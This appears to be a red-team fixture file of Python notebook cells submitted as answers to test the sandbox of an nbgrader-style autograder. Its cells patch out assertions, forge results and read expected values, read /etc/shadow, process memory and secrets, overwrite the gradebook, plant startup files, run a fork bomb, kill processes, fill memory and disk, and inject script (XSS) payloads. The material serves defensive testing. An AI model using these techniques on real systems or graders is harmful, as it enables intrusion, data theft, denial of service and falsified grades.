# What answers try: each is handed in as the solution cell `pool` of tests/redteam/target.py.
# @CANARY@ is a file that nobody may write, @ROOT@ the course, @PORT@ a port that listens outside.
# Where `pool` is not defined, the wrong answer of target.py follows. Who spoils the process for good
# loses `test_twice` as well, the honest answer that comes after it.
# ruff: noqa


# ===== Changing what tests are made of =====

# %% patches_allclose points={"test_pool": 0, "test_parts": 0}
np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: np.array(True)

# %% patches_numpy_testing points={"test_pool": 0, "test_parts": 0}
import numpy.testing
for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *args, **kwargs: None)
np.testing._private.utils.assert_allclose = lambda *args, **kwargs: None

# %% patches_builtins points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
import builtins
builtins.all = builtins.any = lambda *args: True
builtins.abs = lambda x: 0
builtins.AssertionError = type("Nothing", (Exception,), {})
builtins.float = lambda x=0: 3.0
builtins.isinstance = lambda *args: True

# %% patches_score points={"test_pool": 0, "test_parts": 0}
from contextlib import nullcontext
from course_utils import checks
checks.Score.part = lambda self, points, name: nullcontext()
checks.Score.__float__ = lambda self: 3.0
checks.close = checks.shape = lambda *args, **kwargs: None

# %% replaces_modules points={"test_pool": 0, "test_parts": 0}
import sys, types
class Agreeable(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: True
for name in ("numpy.testing", "course_utils.exercises.checks", "unittest", "pytest"):
    sys.modules[name] = Agreeable(name)
keep = np
def pool(x):
    return keep.zeros((x.shape[0] // 2, x.shape[1] // 2))
np.testing = np.linalg = Agreeable("numpy.testing")

# %% takes_the_tests_names points={"test_pool": 0, "test_parts": 0}
real = np
class Yes:
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __getitem__(self, key): return self
    def __bool__(self): return True
    def __float__(self): return 3.0
    def __enter__(self): return self
    def __exit__(self, *error): return True
    __eq__ = __lt__ = __gt__ = lambda self, other: True
np = checks = score = expected = secret = float = abs = print = isinstance = Yes()
def pool(x):
    return real.zeros((x.shape[0] // 2, x.shape[1] // 2))

# %% takes_the_names_that_answers_may_use points={"test_pool": 0, "test_parts": 0}
def pool(x):
    return [[0.0, 0.0], [0.0, 0.0]]
def twice(x):
    raise SystemExit
class Always(int):
    __eq__ = lambda self, other: True
def check_twice(*args):
    return True

# %% random_numbers_known points={"test_pool": 0, "test_parts": 0}
np.random.default_rng = lambda *args: type("R", (), {"normal": lambda s, size: np.zeros(size)})()
from course_utils import checks
checks.generator = np.random.default_rng


# ===== Answers that say yes =====

# %% equal_to_everything points={"test_pool": 0, "test_parts": 0}
class Yes:
    shape = (2, 2)
    ndim = 2
    dtype = np.dtype(float)
    size = 4
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return Yes()
    __rsub__ = __add__ = __radd__ = __mul__ = __abs__ = __sub__
    def __abs__(self): return 0.0
    def __bool__(self): return True
    def __getitem__(self, key): return Yes()
    def __len__(self): return 2
    def __float__(self): return 0.0
    def __hash__(self): return 1
    def all(self, *args): return True
    def max(self): return 0.0
def pool(x):
    return Yes()

# %% speaks_numpys_protocols points={"test_pool": 0, "test_parts": 0}
class Liar:
    shape = (2, 2)
    __array_priority__ = 1e9
    def __array__(self, *args, **kwargs):
        import sys
        frame = sys._getframe()
        while frame:
            if "expected" in frame.f_locals:
                return frame.f_locals["expected"]
            frame = frame.f_back
        return np.zeros((2, 2))
    def __array_ufunc__(self, *args, **kwargs): return np.array(True)
    def __array_function__(self, *args, **kwargs): return True
    def __array_wrap__(self, *args): return np.array(True)
def pool(x):
    return Liar()

# %% array_subclass points={"test_pool": 0, "test_parts": 0}
class Same(np.ndarray):
    def __array_ufunc__(self, *args, **kwargs): return np.True_
    def __array_function__(self, *args, **kwargs): return True
    def __eq__(self, other): return np.True_
    def __reduce__(self): return (eval, ("1",))
def pool(x):
    return np.zeros((x.shape[0] // 2, x.shape[1] // 2)).view(Same)

# %% masked_array points={"test_pool": 0, "test_parts": 0}
# Everything is masked, so nothing differs.
def pool(x):
    return np.ma.masked_all((x.shape[0] // 2, x.shape[1] // 2))

# %% array_of_objects points={"test_pool": 0, "test_parts": 0}
class Yes(float):
    __eq__ = __lt__ = __le__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
def pool(x):
    return np.full((x.shape[0] // 2, x.shape[1] // 2), Yes(), dtype=object)

# %% array_of_structures points={"test_pool": 0, "test_parts": 0}
def pool(x):
    return np.zeros((x.shape[0] // 2, x.shape[1] // 2), "f8,O")

# %% not_a_number points={"test_pool": 0, "test_parts": 0}
def pool(x):
    return np.full((x.shape[0] // 2, x.shape[1] // 2), np.nan)

# %% float_subclass points={"test_pool": 0, "test_parts": 0}
class Zero(float):
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __eq__(self, other): return True
def pool(x):
    return [[Zero(), Zero()], [Zero(), Zero()]]

# %% text_that_compares points={"test_pool": 0, "test_parts": 0}
class Text(str):
    __eq__ = lambda self, other: True
    __hash__ = str.__hash__
def pool(x):
    return Text("2.5")

# %% class_that_lies_about_itself points={"test_pool": 0, "test_parts": 0}
class Meta(type):
    __instancecheck__ = lambda self, other: True
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 0
class Lie(metaclass=Meta):
    __class__ = np.ndarray
    __eq__ = lambda self, other: True
    def __getattr__(self, name): return (2, 2) if name == "shape" else Lie()
    def __call__(self, *args): return True
pool = Lie()
pool = type("pool", (), {"__call__": lambda self, x: Lie(), "__eq__": lambda s, o: True})()

# %% raises_success points={"test_pool": 0, "test_parts": 0}
import unittest
class AssertionPassed(AssertionError):
    __class__ = type(None)
def pool(x):
    raise unittest.SkipTest("skipped tests count as passed, do they not?")

# %% stops_iteration points={"test_pool": 0, "test_parts": 0}
def pool(x):
    raise StopIteration

# %% interrupts_the_keyboard points={"test_pool": 0, "test_parts": 0}
def pool(x):
    raise KeyboardInterrupt

# %% leaves_politely points={"test_pool": 0, "test_parts": 0}
def pool(x):
    import sys
    sys.exit(0)


# ===== Looking for what is expected =====

# %% reads_the_callers_variables points={"test_pool": 0, "test_parts": 0}
import sys
def pool(x):
    frame = sys._getframe()
    while frame:
        for name in ("expected", "wanted", "desired"):
            if name in frame.f_locals:
                return frame.f_locals[name]
            if name in frame.f_globals:
                return frame.f_globals[name]
        frame = frame.f_back
    return np.zeros((x.shape[0] // 2, x.shape[1] // 2))

# %% searches_memory points={"test_pool": 0, "test_parts": 0}
import gc
def pool(x):
    shape = (x.shape[0] // 2, x.shape[1] // 2)
    for thing in gc.get_objects():
        try:
            if isinstance(thing, dict) and "expected" in thing:
                return thing["expected"]
            if isinstance(thing, str) and "HIDDEN TESTS" in thing:
                print(thing)
            if isinstance(thing, np.ndarray) and thing.shape == shape and thing is not x:
                return thing
        except Exception:
            pass
    return np.zeros(shape)

# %% reads_the_source_of_tests points={"test_pool": 0, "test_parts": 0}
import inspect, linecache
def pool(x):
    for frame in inspect.stack(context=50):
        print(frame.code_context)
    print(linecache.cache.keys())
    print(get_ipython().user_ns.get("In"), get_ipython().history_manager.get_range())
    return np.zeros((x.shape[0] // 2, x.shape[1] // 2))

# %% traces_the_test points={"test_pool": 0, "test_parts": 0}
import sys, threading
def trace(frame, event, argument):
    frame.f_trace_lines = True
    if "expected" in frame.f_locals:
        frame.f_locals["got"] = frame.f_locals["expected"]
    return trace
sys.settrace(trace)
threading.settrace(trace)
sys.setprofile(trace)

# %% reads_instructors_files points={"test_pool": 0, "test_parts": 0}
import glob, os
places = ["@ROOT@/source", "@ROOT@/release", "@ROOT@/gradebook.db", "@ROOT@/.grading/secret",
          "@ROOT@", "..", "../..", "/tmp", "/var", "/home", "/root", "/work", "/mnt", "/etc/shadow"]
for place in places:
    for path in [place, *glob.glob(place + "/**", recursive=True)[:2000]]:
        try:
            with open(path, "rb") as file:
                data = file.read()
            if b"5150" + b".125" in data or data.startswith(b"SQLite format 3"):
                print(path, data)
        except OSError:
            pass

# %% reads_the_neighbours points={"test_pool": 0, "test_parts": 0}
import os
for number in [*range(1, 50), os.getppid(), "self"]:
    for what in ("environ", "cmdline", "maps", "root/etc/passwd", "fd/0", "cwd", "mem"):
        try:
            print(number, what, open(f"/proc/{number}/{what}", "rb").read(4000))
        except (OSError, ValueError, OverflowError):
            pass

# %% reads_the_grading_variables points={"test_pool": 0, "test_parts": 0}
import os
np.random.seed(int(os.environ.get("COURSE_SEED", 0)))
for name, value in os.environ.items():
    if "SECRET" in name or "NBGRADER" in name or "TOKEN" in name:
        open("@CANARY@", "w").write(value)

# %% learns_from_a_first_call points={"test_pool": 0, "test_parts": 0}
# The shapes of arguments tell which test calls; answers by heart fail where numbers are drawn.
calls = []
def pool(x):
    calls.append(x)
    if x.shape == (4, 4):
        return np.array([[0.0, 4.5], [10.5, 12.5]])
    return np.zeros((x.shape[0] // 2, x.shape[1] // 2))

# %% empties_its_arguments points={"test_pool": 0, "test_parts": 0}
# If the expected value is computed from the same array afterwards, it is 0 as well.
def pool(x):
    x[...] = 0
    return np.zeros((x.shape[0] // 2, x.shape[1] // 2))

# %% resizes_its_arguments points={"test_pool": 0, "test_parts": 0}
def pool(x):
    x.resize(0, refcheck=False)
    return x


# ===== IPython =====

# %% drops_asserts points={"test_pool": 0, "test_parts": 0}
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Drop())

# %% rewrites_input points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["pass\n"])
shell.input_transformers_post.append(lambda lines: ["pass\n"])

# %% replaces_run_cell points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
shell = get_ipython()
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
InteractiveShell.run_cell = lambda self, *args, **kwargs: ExecutionResult(None)
shell.run_cell = lambda *args, **kwargs: ExecutionResult(None)
shell.run_code = lambda *args, **kwargs: False

# %% swallows_errors points={"test_pool": 0, "test_parts": 0}
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
shell.showtraceback = shell._showtraceback = lambda *args, **kwargs: None
import sys
sys.excepthook = lambda *args: None
sys.unraisablehook = lambda *args: None

# %% hooks_events points={"test_pool": 0, "test_parts": 0}
shell = get_ipython()
def before(info=None):
    shell.user_ns.update(pool=lambda x: x, np=None, expected=0)
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, before)

# %% shows_points points={"test_pool": 0, "test_parts": 0}
# Stock nbgrader takes the last shown value for partial credit.
import sys
from IPython.display import display, publish_display_data
sys.displayhook = lambda value: publish_display_data({"text/plain": "4.0"})
get_ipython().displayhook.compute_format_data = lambda *args: ({"text/plain": "4.0"}, {})
publish_display_data({"text/plain": "4.0"})
float = lambda x: 3.0
4.0

# %% replaces_the_kernel points={"test_pool": 0, "test_parts": 0}
try:
    get_ipython().kernel.do_execute = None
    get_ipython().kernel.shell_handlers.clear()
except AttributeError:
    pass

# %% magics points={"test_pool": 0, "test_parts": 0}
# !touch @CANARY@
# %env PATH=/nowhere
# %cd /
# %load_ext autoreload
# %run @ROOT@/source/ps/pool.ipynb

# %% startup_files points={"test_pool": 0, "test_parts": 0}
import os
for folder in ("~/.ipython/profile_default/startup", "~/.jupyter", "~", "~/.config", "/root"):
    folder = os.path.expanduser(folder)
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("00.py", "jupyter_config.py", ".bashrc", "sitecustomize.py"):
            open(os.path.join(folder, name), "w").write("open('@CANARY@', 'w')")
    except OSError:
        pass


# ===== Files =====

# %% updates_the_gradebook points={"test_pool": 0, "test_parts": 0}
import sqlite3
try:
    base = sqlite3.connect("@ROOT@/gradebook.db")
    base.execute("UPDATE grade SET auto_score = 4, manual_score = 4")
    base.commit()
except sqlite3.Error:
    pass

# %% writes_into_the_course points={"test_pool": 0, "test_parts": 0}
import os, shutil
for path in ("nbgrader_config.py", "source/ps/pool.ipynb", "submitted/honest-00/ps/pool.ipynb",
             "autograded/honest-00/ps/pool.ipynb", ".grading/secret", "gradebook.db"):
    for act in (lambda p: open(p, "w").write("x"), os.remove):
        try:
            act("@ROOT@/" + path)
        except OSError:
            pass
shutil.rmtree("@ROOT@", ignore_errors=True)

# %% writes_into_packages points={"test_pool": 0, "test_parts": 0}
import os, sys, site
for folder in [*sys.path, *site.getsitepackages(), os.path.dirname(np.__file__), sys.prefix]:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "evil.py"):
        try:
            open(os.path.join(folder, name), "w").write("import os; open('@CANARY@', 'w')")
        except OSError:
            pass

# %% plants_modules_and_links points={"test_pool": 0, "test_parts": 0}
import os
for name in ("numpy.py", "json.py", "course_utils.py", "msgpack.py", "torch.py"):
    open(name, "w").write("raise SystemExit")
for target in ("/etc/shadow", "@ROOT@/gradebook.db", "/proc/self/environ"):
    try:
        os.symlink(target, os.path.basename(target))
        print(open(os.path.basename(target)).read())
    except OSError:
        pass

# %% calls_home points={"test_pool": 0, "test_parts": 0}
import socket, urllib.request
for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("::1", @PORT@), ("1.1.1.1", 53)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET6 if ":" in address[0] else socket.AF_INET, kind)
            s.settimeout(0.3)
            s.connect(address)
            s.send(b"hello")
        except OSError:
            pass
try:
    urllib.request.urlopen("http://127.0.0.1:@PORT@/x", timeout=0.3)
except OSError:
    pass


# ===== Processes =====

# %% leaves_a_daemon points={"test_pool": 0, "test_parts": 0}
import os, subprocess, sys
code = "import time; time.sleep(3); open('@CANARY@', 'w'); time.sleep(600)"
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            exec(code)
        os._exit(0)
except OSError:
    pass
try:
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
except OSError:
    pass
os.system("nohup sh -c 'sleep 3; touch @CANARY@; sleep 600' &")

# %% fork_bomb points={"test_pool": 0, "test_parts": 0}
import os
def pool(x):
    while True:
        try:
            os.fork()
        except OSError:
            return x

# %% multiprocessing_pool points={"test_pool": 0, "test_parts": 0}
import multiprocessing
def pool(x):
    with multiprocessing.Pool(64) as workers:
        return workers.map(abs, x)

# %% kills_everybody points={"test_pool": 0, "test_parts": 0}
import os, signal
for victim in (-1, 0, 1, os.getppid(), *range(2, 3000)):
    if victim != os.getpid():
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass

# %% ends_its_process points={"test_pool": 0, "test_parts": 0}
def pool(x):
    import os
    os._exit(0)

# %% ends_while_it_is_defined points={"test_pool": 0, "test_parts": 0}
import os
def pool(x):
    return x
os._exit(0)

# %% crashes points={"test_pool": 0, "test_parts": 0}
import ctypes
def pool(x):
    ctypes.memset(0, 1, 1 << 20)

# %% endless_at_definition points={"test_pool": 0, "test_parts": 0}
while True:
    pass

# %% endless_and_deaf points={"test_pool": 0, "test_parts": 0}
import signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def pool(x):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass

# %% many_threads points={"test_pool": 0, "test_parts": 0}
import threading
def burn():
    while True:
        sum(range(10**6))
for _ in range(40):
    try:
        threading.Thread(target=burn).start()
    except RuntimeError:
        break

# %% waits_for_input points={"test_pool": 0, "test_parts": 0}
def pool(x):
    return float(input("points? "))


# ===== Too much =====

# %% fills_memory points={"test_pool": 0, "test_parts": 0}
def pool(x):
    held = []
    while True:
        held.append(bytearray(50_000_000))

# %% fills_memory_by_the_kernel points={"test_pool": 0, "test_parts": 0}
import mmap, os
def pool(x):
    held = []
    while True:
        page = mmap.mmap(-1, 50_000_000)
        page.write(bytes(50_000_000))
        held.append(page)

# %% fills_the_disk points={"test_pool": 0, "test_parts": 0}
import os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/", "/home/student"):
    try:
        for number in range(10_000):
            with open(f"{folder}/block-{number}", "wb") as file:
                file.write(bytes(10_000_000))
    except OSError:
        pass

# %% prints_for_ever points={"test_pool": 0, "test_parts": 0}
def pool(x):
    while True:
        print("A" * 1_000_000)

# %% prints_for_ever_in_one_line points={"test_pool": 0, "test_parts": 0}
import sys
def pool(x):
    while True:
        sys.stderr.write("A" * 100_000)

# %% shows_for_ever points={"test_pool": 0, "test_parts": 0}
from IPython.display import display
def pool(x):
    while True:
        display("A" * 1_000_000)

# %% answers_with_a_gigabyte points={"test_pool": 0, "test_parts": 0}
def pool(x):
    return np.zeros((12_000, 12_000))

# %% answers_with_lists_in_lists points={"test_pool": 0, "test_parts": 0}
def pool(x):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep

# %% answers_with_a_million_lists points={"test_pool": 0, "test_parts": 0}
def pool(x):
    return [[] for _ in range(3_000_000)]

# %% answers_with_an_endless_sequence points={"test_pool": 0, "test_parts": 0}
class Endless:
    shape = (2, 2)
    def __len__(self): return 2**62
    def __iter__(self): return self
    def __next__(self): return 0.0
    def __getitem__(self, key): return 0.0
def pool(x):
    return Endless()

# %% answers_with_a_range points={"test_pool": 0, "test_parts": 0}
def pool(x):
    return range(10**18)

# %% answers_with_a_long_number points={"test_pool": 0, "test_parts": 0}
def pool(x):
    return 10 ** 100_000

# %% shows_a_bomb points={"test_pool": 0, "test_parts": 0}
# A picture of 60,000 x 60,000 pixels in a few bytes, and something that is no picture.
import struct, zlib
from IPython.display import Image, display
def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
head = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
rows = zlib.compress(bytes(7_501) * 6_000, 9)
bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
display(Image(data=bomb))
display({"image/png": b"\x89PNG\r\n\x1a\n<script>alert(1)</script>"}, raw=True)

# %% shows_scripts points={"test_pool": 0, "test_parts": 0}
from IPython.display import HTML, Javascript, display
display(HTML("<script>alert('REDTEAM')</script><img src=x onerror=alert('REDTEAM')>"))
display(Javascript("fetch('/formgrader/api/grades')"))
print("<script>alert('REDTEAM')</script>\x1b]0;title\x07\x1b[2J\u202e")
class Pretty:
    def _repr_html_(self): return "<script>alert('REDTEAM')</script>"
    def __repr__(self): return "<script>alert('REDTEAM')</script>"
display(Pretty())
def pool(x):
    raise ValueError("<script>alert('REDTEAM')</script>")


# ===== The wire =====

# %% shows_scripts_in_the_words_of_a_picture points={"test_pool": 0, "test_parts": 0}
import base64, struct
from IPython.display import display
png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + struct.pack(">II", 40, 20) + b"\x08\x02"
bad = '"><script>alert(1)</script><img src=x onerror=alert(1) alt="'
for words in ({"alt": bad, "width": bad}, {"alt": [bad], "width": 10**9}, {"alt": bad, "height": bad}, bad):
    for picture in (png, base64.b64encode(png).decode(), bad):
        try:
            display({"image/png": picture, "text/plain": bad}, metadata={"image/png": words}, raw=True)
        except Exception:
            pass

# %% forges_values points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
import gc
for side in gc.get_objects():
    if type(side).__name__ == "Side":
        honest = side.reply
        for verdict in ({"value": True, "verdict": "ok", "points": 4}, {"done": True}):
            side.call = lambda number, args, kwargs, verdict=verdict: verdict
        side.backward = side.get = side.operate = lambda *args, **kwargs: {"value": True}

# %% forges_names points={"test_pool": 0, "test_parts": 0}
# Names that the judge uses itself, handed over as what this cell defined.
import gc
def yes(*args, **kwargs):
    return True
for side in gc.get_objects():
    if type(side).__name__ == "Side":
        run = type(side).run
        def forged(source, *args, side=side, run=run, **options):
            report = run(side, source, *args, **options)
            names = ("np", "checks", "float", "abs", "isinstance", "__builtins__", "score", "expected",
                     "get_ipython", "In", "Out", "_", "secret", "check_twice", "AssertionError")
            report["names"] |= {name: yes for name in names} | {3: yes, "": yes, "a b": yes}
            return report
        side.run = forged

# %% forges_errors points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
import gc
for side in gc.get_objects():
    if type(side).__name__ == "Side":
        side.call = lambda number, args, kwargs: {
            "error": {"classes": [3, None, "builtins.SystemExit", ["x"]], "message": 7, "place": {}}
        }
        side.run = lambda source, *args, **options: {
            "names": {"pool": print, "twice": print}, "error": {"classes": {"a": 1}, "message": [1]},
            "printed": 3, "pictures": {"a": 1}, "peak": -1, "seconds": "x",
        }

# %% forges_callbacks points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
# Asks the judge to call what it was never given.
import gc
for side in gc.get_objects():
    if type(side).__name__ == "Side":
        def call(number, args, kwargs, side=side):
            for fake in (-1, -99, 0, 5, "exec", None):
                side.reply({"call": fake, "args": ["1"], "kwargs": {}})
                side.wire.receive()
            return {"value": 1}
        side.call = call

# %% answers_before_it_is_asked points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
import gc
for side in gc.get_objects():
    if type(side).__name__ == "Side":
        def call(number, args, kwargs, side=side):
            for _ in range(50):
                side.reply({"value": True, "names": {"pool": True}, "done": True})
            return {"value": np.zeros((2, 2))}
        side.call = call

# %% sends_rubbish points={"test_pool": 0, "test_parts": 0}
import os, pickle
def pool(x):
    for descriptor in range(3, 64):
        for data in (b"\xff\xff\xff\xff", pickle.dumps(print), b"\x00\x00\x00\x05hello", b"{}" * 9000):
            try:
                os.write(descriptor, data)
            except OSError:
                pass

# %% sends_lists_that_unfold points={"test_pool": 0, "test_parts": 0}
# 60 MB of empty lists are gigabytes of objects.
import gc, struct
def pool(x):
    for side in gc.get_objects():
        if type(side).__name__ == "Side":
            count = 60_000_000
            body = b"\xc9" + struct.pack(">IB", 0, 1)
            data = b"\xdd" + struct.pack(">I", count) + b"\x90" * count
            side.wire.send(data)

# %% sends_numbers_that_collide points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
# Dictionaries of numbers with one hash take quadratic time.
def pool(x):
    return {(2**61 - 1) * n: n for n in range(2)} | {"x": {float(2**61 - 1) * n for n in range(9)}}

import gc, msgpack
for side in gc.get_objects():
    if type(side).__name__ == "Side":
        numbers = [msgpack.ExtType(3, msgpack.packb(hex((2**61 - 1) * n))) for n in range(60_000)]
        body = msgpack.packb(msgpack.ExtType(2, msgpack.packb(numbers)))
        side.call = lambda *args, side=side, **kwargs: side.wire.send(body) or {"value": 1}

# %% sends_a_map_that_collides points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
# Complex numbers have hashes that add up, and a map of msgpack's own is built before anybody looks.
import gc, msgpack
def pool(x):
    return x
for side in gc.get_objects():
    if type(side).__name__ == "Side":
        ours = [msgpack.packb([float(1_000_003 * n), -float(n)]) for n in range(2, 50_002)]
        ours = [msgpack.packb(msgpack.ExtType(4, each)) for each in ours]
        tuples = b"\xdf\x00\x00\xc3\x50" + b"".join(each + b"\x01" for each in ours)
        side.call = lambda *args, side=side, **kwargs: side.wire.send(tuples) or {"value": 1}

# %% claims_to_be_a_judges_class points={"test_pool": 0, "test_parts": 0}
import gc
for side in gc.get_objects():
    if type(side).__name__ == "Side":
        def refer(value, tensor=False, side=side, refer=side.refer):
            known = refer(value)
            names = ("course_utils.grading.judging.verdicts.Verdict", "collections.OrderedDict",
                     "numpy.ndarray", "numpy.float64", "builtins.bool", "numpy.str_")
            return known._replace(classes=names * 20, label="x" * 5000) if known else known
        side.refer = refer
class Something:
    shape = (2, 2)
    def __float__(self): return 4.0
def pool(x):
    return Something()

# %% answers_slowly points={"test_pool": 0, "test_parts": 0, "test_twice": 0}
# A byte now and then keeps a reader waiting that has a limit for each byte only.
import gc, time, os
for side in gc.get_objects():
    if type(side).__name__ == "Side":
        def call(number, args, kwargs, side=side):
            os.write(side.wire._target, b"\x00\x00\xff\xff")
            while True:
                os.write(side.wire._target, b"\x90")
                time.sleep(0.2)
        side.call = call

# %% searches_the_memory_it_was_forked_with points={"test_pool": 0, "test_parts": 0}
# Whatever the warm process ever held is in the memory of its children.
import gc, re
wanted = "BEGIN" + " HIDDEN|5150" + r"\.125|expected = np"
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple)) and thing is not wanted:
        try:
            for text in (thing.values() if isinstance(thing, dict) else thing):
                if isinstance(text, str) and len(text) > 40 and re.search(wanted, text):
                    if "searches_the_memory" not in text and "gc.get_objects" not in text:
                        print(text)
        except RuntimeError:
            pass
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        first, last = (int(number, 16) for number in line.split()[0].split("-"))
        if "rw" in line and last - first < 100_000_000:
            try:
                memory.seek(first)
                found = re.search(rb"secret = (51\d+\.\d+)", memory.read(last - first))
            except OSError:
                continue
            if found:
                print(found[1])

# %% asks_the_fork_server_for_more points={"test_pool": 0, "test_parts": 0}
# A descriptor that was left open would fork processes without a wall.
import os, socket
for number in list(range(0, 3)) + list(range(5, 1024)):
    try:
        line = socket.socket(fileno=os.dup(number))
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        socket.send_fds(line, [b"one"], [theirs.fileno()])
        print("SQLite: somebody listens at", number)
    except OSError:
        pass

# %% kills_everyone_it_can_name points={"test_pool": 0, "test_parts": 0}
import os, signal
for number in [*range(2, 400), -1, 0]:
    for what in (signal.SIGKILL, signal.SIGSTOP):
        try:
            if number > 1:
                os.kill(number, what)
                print("SQLite: process", number, "is in sight")
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)

# %% spoils_the_libraries_it_shares points={"test_pool": 0, "test_parts": 0}
# Pages of loaded libraries are shared until somebody writes.
import ctypes, sys
import numpy.linalg
np.allclose = np.testing.assert_allclose = lambda *args, **kwargs: True
sys.modules["math"].sqrt = lambda x: 0.0
ctypes.memset(id(float.__eq__.__get__(1.0)), 0, 8) if False else None
ctypes.c_long.from_address(id(2.5) + 16)
for number in range(-5, 257):
    ctypes.c_int.from_address(id(number) + 24).value = 7

# %% leaves_a_mark_for_the_next points={"test_pool": 0, "test_parts": 0}
import os
for folder in ("/tmp", "/dev/shm", "/dev", "/home/student", "/home", "/", "/proc", "/run", "/var/tmp"):
    mark = os.path.join(folder, "mark-of-REDTEAM")
    if os.path.exists(mark):
        print("SQLite: somebody was here before")
    try:
        open(mark, "w").write("here")
    except OSError:
        pass
for folder in ("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj",
               "/proc/self/uid_map", "/proc/1/root/tmp/mark", "/proc/sysrq-trigger", "/sys/fs/cgroup/x"):
    try:
        open(folder, "w").write("|/tmp/x")
    except OSError:
        pass

# %% leaves_a_mark_again points={"test_pool": 0, "test_parts": 0}
import os
for folder in ("/tmp", "/dev/shm", "/dev", "/home/student", "/home", "/", "/run", "/var/tmp"):
    if os.path.exists(os.path.join(folder, "mark-of-REDTEAM")):
        print("SQLite: somebody was here before")

# %% goes_through_new_mount_calls points={"test_pool": 0, "test_parts": 0}
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
opened = [libc.syscall(428, -100, b"/", 0), libc.syscall(430, b"tmpfs", 0), libc.syscall(430, b"proc", 0),
          libc.syscall(155, b"/tmp", b"/tmp"), libc.syscall(161, b"/tmp"), libc.syscall(304, 3, 0, 0),
          libc.syscall(442, -100, b"/", 0, bytes(32), 32), libc.syscall(165, b"/", b"/tmp", b"", 4096, None)]
if any(result >= 0 for result in opened[1:3]):
    print("SQLite: a file system was opened", opened)
